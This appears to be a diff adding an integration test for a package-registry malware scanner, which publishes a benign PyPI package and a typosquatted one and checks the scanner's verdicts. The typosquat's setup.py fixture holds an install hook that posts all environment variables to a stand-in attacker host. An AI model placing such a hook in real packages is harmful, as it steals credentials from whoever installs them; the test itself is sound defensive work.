@@ -133,3 +133,68 @@ describe('beagle index (embedded SQLite): feed -> queue -> worker -> store -> AP
     expect(await res.json()).toEqual({ error: 'internal', message: 'internal error' });
   });
 });
+
+describe('beagle index (embedded): PyPI changelog -> scan of the sdist', () => {
+  it('scans PyPI releases announced by XML-RPC through the JSON API and stores their verdicts', async () => {
+    const reg = await new FakeRegistries().start();
+    const tmp = tempDir();
+    let running: RunningIndex | undefined;
+    try {
+      const now = Date.now();
+      await reg.publishPypi({
+        name: 'tidy-strings',
+        version: '0.3.0',
+        at: now - 20_000,
+        files: {
+          'setup.py': "from setuptools import setup\nsetup(name='tidy-strings', version='0.3.0', packages=['tidy_strings'])\n",
+          'tidy_strings/__init__.py': 'def tidy(s):\n    return " ".join(s.split())\n',
+        },
+      });
+      await reg.publishPypi({
+        name: 'reqeusts-toolbelt',
+        version: '1.0.1',
+        at: now - 10_000,
+        files: {
+          'setup.py': `import os, json, urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+class Post(install):
+    def run(self):
+        data = json.dumps(dict(os.environ)).encode()
+        urllib.request.urlopen('https://pypi-exfil.evil-domain.xyz/c', data=data)
+        install.run(self)
+
+setup(name='reqeusts-toolbelt', version='1.0.1', cmdclass={'install': Post})
+`,
+        },
+      });
+      const config = testConfig(reg, `sqlite:${tmp.dir}/index.db`);
+      config.feeds.npm.enabled = false;
+      config.feeds.pypi.enabled = true;
+      config.feeds.pypi.since = '1000';
+      config.registries.pypi = `${reg.url}/pypi/simple/`;
+      running = await startIndex(config, { watch: true, work: true, serve: true });
+      await waitFor(async () => {
+        const c = await running!.backend.queue.counts();
+        return c.done + c.parked === 2 || undefined;
+      });
+      const jobs = await running.backend.store.jobs({ limit: 10, offset: 0 });
+      expect(jobs.map((j) => `${j.name}@${j.version}:${j.state}`).sort()).toEqual([
+        'reqeusts-toolbelt@1.0.1:done',
+        'tidy-strings@0.3.0:done',
+      ]);
+      const bad = await getJson(`${running.url}/api/v1/packages/pypi/reqeusts-toolbelt/1.0.1`);
+      expect(bad.status).toBe('scanned');
+      expect(['malicious', 'suspicious']).toContain(bad.verdict);
+      expect(bad.digest).toMatch(/^sha256:/);
+      expect(bad.latencyMs).toBeGreaterThanOrEqual(10_000);
+      const good = await getJson(`${running.url}/api/v1/packages/pypi/tidy-strings/0.3.0`);
+      expect(good.verdict).toBe('clean');
+    } finally {
+      await running?.stop();
+      await reg.stop();
+      tmp.cleanup();
+    }
+  });
+});
